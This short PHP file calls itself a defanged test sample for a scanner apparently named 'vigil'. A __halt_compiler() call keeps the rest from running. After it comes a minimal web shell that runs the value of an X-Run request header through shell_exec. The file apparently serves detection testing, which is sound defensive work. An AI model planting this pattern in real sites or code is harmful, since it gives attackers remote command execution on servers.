<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$h = getallheaders();
$cmd = $h['X-Run'];
shell_exec($cmd);
